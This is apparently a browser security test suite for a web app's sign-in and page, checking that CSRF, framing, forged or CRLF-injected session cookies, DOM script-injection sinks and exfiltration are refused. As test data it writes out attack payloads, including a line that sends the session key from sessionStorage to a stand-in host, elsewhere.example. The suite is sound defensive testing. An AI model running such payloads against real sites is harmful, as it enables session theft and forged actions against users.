import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { suite } from 'uvu';
import { startEasyAuth } from '../../../../local/easyAuth.ts';
import { listen } from '../../../../local/machine/listening.ts';
import { someRows } from '../../../tier.ts';
import { closeBrowser, openTab } from '../browser.ts';
import { key, startFixtureServer } from '../fixtureServer.ts';
import { apiOver, everyMark } from '../fixtures.ts';

interface World {
  server: Awaited<ReturnType<typeof startFixtureServer>>;
  easyAuth: Awaited<ReturnType<typeof startEasyAuth>>;
  /** A page of another site. */
  evil: { url: string; stop(): void };
}

const writer = { name: 'ada@example.com', roles: ['Tasks.Read', 'Tasks.Write'] };
const test = suite<World>('attacks on the page and its session');
test.before(async (world) => {
  // The page asks how one signs in.
  process.env.PLINTH_API_CLIENT_ID = '00000000-0000-0000-0000-000000000001';
  world.server = await startFixtureServer(apiOver({ states: everyMark() }));
  const port = Number(new URL(world.server.url).port);
  world.easyAuth = await startEasyAuth({ port }, writer, ['/page', '/page/*']);
  const other = createServer((_, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><title>evil</title><body></body>'),
  );
  // Another host by name, so that its cookies and origin are others.
  const url = `http://127.0.0.1:${await listen(other, 0)}`;
  world.evil = { url, stop: () => void other.close().closeAllConnections() };
});
test.before.each(({ server }) => {
  server.world.calls.length = 0;
});
test.after(async ({ server, easyAuth, evil }) => {
  await closeBrowser();
  evil.stop();
  await easyAuth.stop();
  await server.stop();
});

/** A tab that is signed in, and then shows the page of another site. */
async function lured({ easyAuth, evil }: World): Promise<Page> {
  const { page } = await openTab();
  await page.goto(`${easyAuth.url}/page`);
  await page.getByRole('link', { name: 'Sign in with Entra' }).click();
  await page.getByText('As of').waitFor();
  await page.goto(evil.url);
  return page;
}

const frame = (target: string) => `(async () => {
  const frame = document.createElement('iframe');
  frame.src = '${target}/page';
  const loaded = new Promise((done) => { frame.onload = frame.onerror = done; });
  document.body.append(frame);
  await loaded;
  try { return String(frame.contentWindow.document.body.textContent); } catch { return 'closed'; }
})()`;
const request = (target: string, init: string) =>
  `fetch('${target}', ${init}).then(async (answer) => answer.type + (await answer.text()), () => 'refused')`;

const cancel = '/registries/teamacr/runs/cr1/cancel';
const lures: [title: string, script: (target: string) => string, sees: RegExp][] = [
  ['reads with its cookie', (to) => request(`${to}/registries`, `{ credentials: 'include' }`), /^refused$/],
  [
    'reads without looking',
    (to) => request(`${to}/registries`, `{ credentials: 'include', mode: 'no-cors' }`),
    /^(opaque|refused)$/,
  ],
  [
    'posts with its cookie',
    (to) => request(to + cancel, `{ method: 'POST', credentials: 'include' }`),
    /^refused$/,
  ],
  [
    'posts what needs no question first',
    (to) =>
      request(
        to + cancel,
        `{ method: 'POST', credentials: 'include', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }`,
      ),
    /^(opaque|refused)$/,
  ],
  [
    'deletes',
    (to) => request(`${to}/registries/teamacr/tasks/off`, `{ method: 'DELETE', credentials: 'include' }`),
    /^refused$/,
  ],
  ['loads an answer as a script', (to) => element('script', `${to}/registries`), /^error$/],
  ['shows an answer as a picture', (to) => element('img', `${to}/registries`), /^error$/],
  ['frames the page', frame, /^closed$/],
  [
    'opens the page and reaches into it',
    (to) =>
      `(async () => {
        const other = open('${to}/page');
        for (let turn = 0; turn < 200; turn++) {
          try { if (other === null || other.closed) return 'closed'; void other.document.body; } catch { return 'closed'; }
          await new Promise((done) => setTimeout(done, 50));
        }
        return 'open';
      })()`,
    /^closed$/,
  ],
];

function element(name: string, address: string): string {
  return `new Promise((done) => {
    const one = document.createElement('${name}');
    one.onload = () => done('loaded');
    one.onerror = () => done('error');
    one.src = '${address}';
    document.body.append(one);
  })`;
}

for (const [title, script, sees] of someRows(lures, ([title]) => title.startsWith('post')))
  test(`a page of another site that ${title} with somebody's session sees and changes nothing`, async (world) => {
    const page = await lured(world);
    world.server.world.calls.length = 0;
    assert.match(String(await page.evaluate(script(world.easyAuth.url))), sees);
    await page.context().close();
    const changing = world.server.world.calls.filter((call) => !call.startsWith('GET'));
    assert.deepEqual(changing, [], 'nothing but reads has come to the app');
  });

test('a form of another site that posts with somebody’s session changes nothing', async (world) => {
  const page = await lured(world);
  world.server.world.calls.length = 0;
  const answered = page.waitForResponse((response) => response.url().endsWith('/cancel'));
  await page.evaluate(
    `(() => { const form = document.createElement('form'); form.method = 'post'; form.action = '${world.easyAuth.url}${cancel}'; document.body.append(form); form.submit(); })()`,
  );
  const status = (await answered).status();
  assert.ok(status === 401 || status === 403, String(status));
  assert.deepEqual(world.server.world.calls, []);
});

const cookies: [title: string, cookie: string][] = [
  ['none', ''],
  ['an empty one', 'AppServiceAuthSession='],
  ['a made up one', 'AppServiceAuthSession=00000000-0000-4000-8000-000000000000'],
  ['one of another name', 'AppServiceAuthSession2=x; Session=x'],
  ['one with what would be a header', 'AppServiceAuthSession=x%0d%0ax-ms-client-principal: e30='],
  ['one of 8,000 characters', `AppServiceAuthSession=${'x'.repeat(8000)}`],
];
for (const [title, cookie] of cookies)
  test(`a session cookie that was forged, ${title}, opens nothing`, async ({ easyAuth, server }) => {
    const answered = await fetch(`${easyAuth.url}/registries`, {
      headers: { cookie, 'x-ms-client-principal': Buffer.from(JSON.stringify(writer)).toString('base64') },
    });
    assert.equal(answered.status, 401);
    assert.deepEqual(server.world.calls, []);
  });

test('a session that has ended opens nothing, and its cookie cannot be used again after signing in anew', async ({
  easyAuth,
}) => {
  const signIn = async () =>
    (await fetch(`${easyAuth.url}/.auth/login/aad`, { redirect: 'manual' })).headers
      .get('set-cookie')!
      .split(';')[0]!;
  const before = await signIn();
  const status = async (cookie: string) =>
    (await fetch(`${easyAuth.url}/registries`, { headers: { cookie } })).status;
  assert.equal(await status(before), 200);
  easyAuth.endSessions();
  assert.equal(await status(before), 401);
  assert.equal(await status(await signIn()), 200);
  assert.equal(await status(before), 401);
});

/** In the page itself, as if somebody's text had become a script's. */
const inside: [title: string, script: string][] = [
  ['innerHTML', `document.body.innerHTML = '<b>x</b>'`],
  ['outerHTML', `document.getElementById('page').outerHTML = '<b>x</b>'`],
  ['insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`],
  ['document.write', `document.write('<b>x</b>')`],
  ['a fragment from text', `document.createRange().createContextualFragment('<img src=x onerror=1>')`],
  ['DOMParser', `new DOMParser().parseFromString('<b>x</b>', 'text/html')`],
  ['srcdoc', `document.createElement('iframe').srcdoc = '<script>1</script>'`],
  ['eval', `eval('1')`],
  ['Function', `new Function('1')`],
  ['a timer of text', `setTimeout('globalThis.ran = 1', 0)`],
  ['a script of another site', `document.createElement('script').src = 'https://elsewhere.example/x.js'`],
  ['a worker of a text', `new Worker('data:text/javascript,1')`],
  ['a policy of its own name', `trustedTypes.createPolicy('mine', {})`],
  ['a default policy', `trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
];
let own: ReturnType<typeof openTab> | undefined;
/** One tab with the page for all that is tried in it, as nothing of it may come to pass. */
function ownTab({ server }: World) {
  own ??= openTab().then(async (tab) => {
    await tab.page.goto(`${server.url}/page#key=${key}`);
    await tab.page.getByText('As of').waitFor();
    return tab;
  });
  return own;
}

for (const [title, script] of inside)
  test(`no text becomes markup or script in the page: ${title}`, async (world) => {
    const { page } = await ownTab(world);
    // Later than the debugger's own call, to which the policy does not apply.
    const outcome = await page.evaluate(
      `new Promise((done) => setTimeout(() => { try { ${script}; done('done'); } catch { done('refused'); } }))`,
    );
    assert.equal(outcome, 'refused');
  });

const loads: [title: string, script: string][] = [
  [
    'a picture',
    `const one = new Image(); one.onerror = () => done('refused'); one.onload = () => done('loaded'); one.src = 'https://elsewhere.example/x.png?' + sessionStorage.getItem('plinth-key')`,
  ],
  ['a request', `fetch('https://elsewhere.example/').then(() => done('loaded'), () => done('refused'))`],
  [
    'a socket',
    `try { new WebSocket('wss://elsewhere.example/').onerror = () => done('refused'); } catch { done('refused'); }`,
  ],
  [
    'a beacon',
    `document.addEventListener('securitypolicyviolation', () => done('refused')); navigator.sendBeacon('https://elsewhere.example/', 'x')`,
  ],
  [
    'a style',
    `const one = document.createElement('link'); one.rel = 'stylesheet'; one.onerror = () => done('refused'); one.onload = () => done('loaded'); one.href = 'https://elsewhere.example/x.css'; document.head.append(one)`,
  ],
  [
    'a frame',
    `document.addEventListener('securitypolicyviolation', () => done('refused')); const one = document.createElement('iframe'); one.src = 'https://elsewhere.example/'; document.body.append(one)`,
  ],
  [
    'a form',
    `document.addEventListener('securitypolicyviolation', () => done('refused')); const one = document.createElement('form'); one.action = 'https://elsewhere.example/'; document.body.append(one); one.submit()`,
  ],
];
for (const [title, script] of loads)
  test(`nothing leaves the page for another site: ${title}`, async (world) => {
    const { page } = await ownTab(world);
    assert.equal(await page.evaluate(`new Promise((done) => { ${script} })`), 'refused');
  });

const fragments: [fragment: string, isKept: boolean][] = [
  [`#key=${key}`, true],
  ['#key=%', true],
  ['#key=%E0%A4%A', true],
  ['#key=', false],
  [`#key=${'k'.repeat(10_000)}`, true],
  [`#Key=${key}`, false],
  [`?key=${key}`, false],
  [`?code=${key}`, false],
];
for (const [fragment, isKept] of someRows(fragments, ([, isKept]) => isKept))
  test(`an address with ${fragment.slice(0, 30)} shows the page, and the key is ${isKept ? 'kept in the tab and taken out of the address' : 'not taken'}`, async ({
    server,
  }) => {
    const { page, asked, complaints } = await openTab();
    await page.goto(`${server.url}/page${fragment}`);
    await page.locator('header, .sign-in').first().waitFor();
    assert.equal(await page.evaluate(`sessionStorage.getItem('plinth-key') !== null`), isKept);
    if (fragment.startsWith('#key')) assert.equal(page.url(), `${server.url}/page`);
    const [, ...later] = asked;
    assert.deepEqual(
      later.filter(({ url }) => url.includes('key=') || url.includes('code=')),
      [],
    );
    assert.deepEqual(complaints, []);
    await page.context().close();
  });

test.run();
